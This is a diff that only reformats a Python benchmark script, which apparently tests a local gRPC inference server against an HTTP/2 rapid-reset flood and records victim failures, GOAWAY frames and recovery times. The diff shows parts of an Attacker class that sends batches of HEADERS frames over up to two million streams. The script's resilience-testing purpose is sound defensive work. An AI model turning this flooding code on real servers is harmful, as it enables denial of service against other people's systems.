@@ -59,10 +59,17 @@ def hpack_literal(name: str, value: str) -> bytes:
 
 
 def request_headers(port: int) -> bytes:
-    return b"".join(hpack_literal(n, v) for n, v in (
-        (":method", "POST"), (":scheme", "http"), (":path", "/inference.GRPCInferenceService/ModelInfer"),
-        (":authority", f"127.0.0.1:{port}"), ("content-type", "application/grpc"), ("te", "trailers"),
-    ))
+    return b"".join(
+        hpack_literal(n, v)
+        for n, v in (
+            (":method", "POST"),
+            (":scheme", "http"),
+            (":path", "/inference.GRPCInferenceService/ModelInfer"),
+            (":authority", f"127.0.0.1:{port}"),
+            ("content-type", "application/grpc"),
+            ("te", "trailers"),
+        )
+    )
 
 
 class Attacker:
@@ -93,8 +100,8 @@ class Attacker:
                     length = int.from_bytes(buffer[:3], "big")
                     if len(buffer) < 9 + length:
                         break
-                    kind, flags, payload = buffer[3], buffer[4], buffer[9:9 + length]
-                    buffer = buffer[9 + length:]
+                    kind, flags, payload = buffer[3], buffer[4], buffer[9 : 9 + length]
+                    buffer = buffer[9 + length :]
                     if kind == SETTINGS and not flags & ACK:
                         self._send(frame(SETTINGS, ACK, 0))
                     elif kind == PING and not flags & ACK:
@@ -110,8 +117,9 @@ class Attacker:
         block = request_headers(port)
         sent, stream_id = 0, 1
         try:
-            while sent < streams and time.monotonic() < deadline and not self.closed.is_set() \
-                    and not self.goaway.is_set():
+            while (
+                sent < streams and time.monotonic() < deadline and not self.closed.is_set() and not self.goaway.is_set()
+            ):
                 batch = bytearray()
                 for _ in range(min(BATCH, streams - sent)):
                     batch += frame(HEADERS, END_HEADERS, stream_id, block)
@@ -182,12 +190,21 @@ def measure(repo: Path, label: str, server_args: tuple[str, ...], streams: int, 
         thread.join(timeout=30)
         recovered_s = recovery_s(server.url)
     failed = sum(n for status, n in outcomes.items() if status != "OK")
-    row = {"configuration": label, "streams_sent": sent, "attack_s": round(took_s, 2),
-           "victim_ok": outcomes["OK"], "victim_failed": failed,
-           "victim_failures": " ".join(f"{k}={v}" for k, v in sorted(outcomes.items()) if k != "OK"),
-           "attack_connections": connections, "goaways": goaways, "ready_again_after_s": recovered_s}
-    print(f"{label:28s} streams {sent:7d} in {took_s:5.1f} s; victim ok {outcomes['OK']:5d}, failed {failed:4d} "
-          f"{row['victim_failures']}; {connections} connections, {goaways} GOAWAY; ready again after {recovered_s} s")
+    row = {
+        "configuration": label,
+        "streams_sent": sent,
+        "attack_s": round(took_s, 2),
+        "victim_ok": outcomes["OK"],
+        "victim_failed": failed,
+        "victim_failures": " ".join(f"{k}={v}" for k, v in sorted(outcomes.items()) if k != "OK"),
+        "attack_connections": connections,
+        "goaways": goaways,
+        "ready_again_after_s": recovered_s,
+    }
+    print(
+        f"{label:28s} streams {sent:7d} in {took_s:5.1f} s; victim ok {outcomes['OK']:5d}, failed {failed:4d} "
+        f"{row['victim_failures']}; {connections} connections, {goaways} GOAWAY; ready again after {recovered_s} s"
+    )
     return row
 
 
@@ -195,8 +212,12 @@ def main() -> None:
     parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
     parser.add_argument("--streams", type=int, default=2_000_000, help="most streams the attacker opens")
     parser.add_argument("--max-seconds", type=float, default=5.0, help="how long the attack (and each window) lasts")
-    parser.add_argument("--grpc-engine", default="auto", choices=("auto", "native", "grpcio"),
-                        help="the engine of every server (default auto: native on this insecure listener)")
+    parser.add_argument(
+        "--grpc-engine",
+        default="auto",
+        choices=("auto", "native", "grpcio"),
+        help="the engine of every server (default auto: native on this insecure listener)",
+    )
     args = parser.parse_args()
     configurations = {  # label: (server arguments, attack streams)
         "no attack (baseline)": ((), 0),
@@ -208,8 +229,10 @@ def main() -> None:
         (model / "1").mkdir(parents=True)
         (model / "config.pbtxt").write_text(IDENTITY_CONFIG)
         repo = model.parent
-        rows = [measure(repo, label, ("--grpc-engine", args.grpc_engine, *extra), streams, args.max_seconds)
-                for label, (extra, streams) in configurations.items()]
+        rows = [
+            measure(repo, label, ("--grpc-engine", args.grpc_engine, *extra), streams, args.max_seconds)
+            for label, (extra, streams) in configurations.items()
+        ]
     for row in rows:
         row["engine"] = args.grpc_engine
     save_results(rows, f"rapid_reset_{args.grpc_engine}.csv" if args.grpc_engine != "auto" else "rapid_reset.csv")
